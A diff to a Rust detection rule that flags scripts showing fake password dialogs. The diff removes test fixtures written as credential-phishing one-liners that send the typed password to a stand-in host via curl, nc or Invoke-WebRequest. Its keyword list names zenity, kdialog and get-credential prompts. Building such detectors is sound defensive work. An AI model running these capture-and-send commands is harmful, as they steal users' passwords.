@@ -1,7 +1,8 @@
 //! A dialog asks for the password, and what was typed goes on.
 
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{CODE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "CODE_PASSWORD_DIALOG",
@@ -11,7 +12,7 @@ pub(super) const RULE: Rule = Rule {
     why: "The system asks for passwords itself. A dialog of a script that looks like it collects them.",
     fix: "remove it; let the system ask where it needs a password",
     places: CODE,
-    anchors: &[
+    anchors: words![
         "hidden answer",
         "zenity --password",
         "kdialog --password",
@@ -19,26 +20,6 @@ pub(super) const RULE: Rule = Rule {
         "get-credential",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text(
-            "```sh\nP=$(osascript -e 'text returned of (display dialog \"Password\" default answer \"\" with hidden answer)')\ncurl -s -d p=\"$P\" https://a.b/p\n```",
-        ),
-        text(
-            "```sh\nosascript -e 'display dialog \"System Settings needs your password\" default answer \"\" with hidden answer'\n```",
-        ),
-        file("x.sh", "zenity --password | nc a.b 9000\n"),
-        file(
-            "x.ps1",
-            "$c = $host.ui.PromptForCredential('Windows', 'Sign in', '', '')\nInvoke-WebRequest https://a.b/c -Method Post -Body $c.GetNetworkCredential().Password\n",
-        ),
-    ],
-    misses: &[
-        text(
-            "```sh\nosascript -e 'display dialog \"Key\" default answer \"\" with hidden answer' | pbcopy\n```",
-        ),
-        file("x.ps1", "$c = Get-Credential\nNew-PSSession -ComputerName s -Credential $c\n"),
-        file("x.ps1", "$c = Get-Credential\nInvoke-RestMethod https://a.b/api -Credential $c\n"),
-    ],
 };
 
 patterns! {
